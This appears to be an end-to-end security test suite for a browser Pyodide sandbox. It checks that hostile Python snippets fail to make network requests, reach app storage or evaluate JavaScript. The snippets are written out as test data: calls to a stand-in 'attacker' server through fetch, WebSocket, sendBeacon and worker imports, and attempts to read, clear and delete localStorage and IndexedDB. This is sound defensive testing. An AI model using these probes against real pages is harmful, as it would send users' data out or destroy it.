/**
 * A hostile snippet in the sandboxed runner cannot reach the network, the app's storage, or
 * evaluate JavaScript strings, and the page stays responsive while it tries.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startRecordingServer, useE2E, type OpenedPage, type RecordingServer } from './harness';
import {
	READY_TIMEOUT,
	SEEDED_SNIPPET,
	openRunner,
	readStorage,
	runPython,
	seedStorage,
	withResponsivenessProbe
} from './runner-fixtures';

const e2e = useE2E();
let attacker: RecordingServer;
let opened: OpenedPage;

beforeAll(async () => {
	attacker = await startRecordingServer();
	opened = await openRunner(e2e);
}, READY_TIMEOUT);

afterAll(async () => {
	await attacker?.close();
});

beforeEach(async () => {
	await seedStorage(opened.page);
});

/** Runs a hostile program, then waits for late asynchronous requests before the caller checks. */
async function hostile(code: string) {
	const { result, maxGapMs } = await withResponsivenessProbe(opened.page, () =>
		runPython(opened.page, code)
	);
	await opened.page.waitForTimeout(1_500);
	expect(maxGapMs).toBeLessThan(250);
	return result;
}

/** A Python helper every snippet starts with: try something, print how it went. */
const TRY = `
import js
def attempt(name, action):
    try:
        action()
        print(name, "ran")
    except BaseException as error:
        print(name, "failed:", type(error).__name__)
`;

describe('network from Python', () => {
	it('js.fetch, XMLHttpRequest, WebSocket, EventSource, sendBeacon, importScripts, Worker, import(): zero hits', async () => {
		const url = attacker.origin;
		const ws = url.replace('http', 'ws');
		const outcome = await hostile(`${TRY}
from pyodide.ffi import to_js
def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "${url}/xhr", False)
    request.send()
attempt("fetch", lambda: js.fetch("${url}/fetch"))
attempt("xhr", xhr)
attempt("websocket", lambda: js.WebSocket.new("${ws}/ws"))
attempt("eventsource", lambda: js.EventSource.new("${url}/events"))
attempt("beacon", lambda: js.navigator.sendBeacon("${url}/beacon", "x"))
attempt("importScripts", lambda: js.importScripts("${url}/import.js"))
attempt("worker", lambda: js.Worker.new("${url}/worker.js"))
attempt("module worker", lambda: js.Worker.new("${url}/worker.js", to_js({"type": "module"}, dict_converter=js.Object.fromEntries)))
# Dynamic import() needs JavaScript source; a blob: script is the one way to run some.
blob = js.Blob.new(to_js(['import("${url}/dynamic.js"); fetch("${url}/from-blob")']), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))
attempt("blob import()", lambda: js.importScripts(js.URL.createObjectURL(blob)))
attempt("nested worker", lambda: js.Worker.new(js.URL.createObjectURL(blob)))
print("done")
`);
		expect(outcome).toMatchObject({ kind: 'finished' });
		if (outcome.kind === 'finished') expect(outcome.stdout.at(-1)).toBe('done');
		expect(attacker.hits).toEqual([]);
	});
});

describe('storage from Python', () => {
	it('cannot read or delete the app’s localStorage or IndexedDB; storage is unchanged', async () => {
		const before = await readStorage(opened.page);
		expect(JSON.parse(before.local['asyncio-playground:draft:v1']).code).toBe(SEEDED_SNIPPET);
		const outcome = await hostile(`${TRY}
def read_local():
    print("local:", js.localStorage.getItem("asyncio-playground:draft:v1"))
def clear_local():
    js.localStorage.clear()
def delete_idb():
    request = js.indexedDB.deleteDatabase("asyncio-playground-test")
    print("delete requested", request)
def open_idb():
    js.indexedDB.open("asyncio-playground-test")
def caches():
    js.caches.delete("x")
def parent_storage():
    print(js.parent.localStorage.getItem("asyncio-playground:draft:v1"))
attempt("read localStorage", read_local)
attempt("clear localStorage", clear_local)
attempt("open IndexedDB", open_idb)
attempt("delete IndexedDB", delete_idb)
attempt("caches", caches)
attempt("parent", parent_storage)
print("done")
`);
		expect(outcome).toMatchObject({ kind: 'finished' });
		if (outcome.kind !== 'finished') return;
		expect(outcome.stdout.join('\n')).not.toContain(SEEDED_SNIPPET);
		expect(outcome.stdout.filter((line) => line.endsWith(' ran'))).toEqual([]);
		expect(await readStorage(opened.page)).toEqual(before);
	});
});

describe('evaluating JavaScript strings', () => {
	it('js.eval, the Function constructor and pyodide.code.run_js fail under the policy', async () => {
		const outcome = await hostile(`${TRY}
from pyodide.code import run_js
attempt("eval", lambda: js.eval("1 + 1"))
attempt("Function", lambda: js.Function.new("return 1")())
attempt("run_js", lambda: run_js("1 + 1"))
attempt("setTimeout string", lambda: js.setTimeout("fetch('${attacker.origin}/timeout')", 0))
print("done")
`);
		expect(outcome).toMatchObject({ kind: 'finished' });
		if (outcome.kind !== 'finished') return;
		const lines = outcome.stdout;
		expect(lines).toContain('eval failed: JsException');
		expect(lines).toContain('Function failed: JsException');
		expect(lines.find((l) => l.startsWith('run_js'))).toMatch(/failed/);
		expect(attacker.hits).toEqual([]);
	});
});
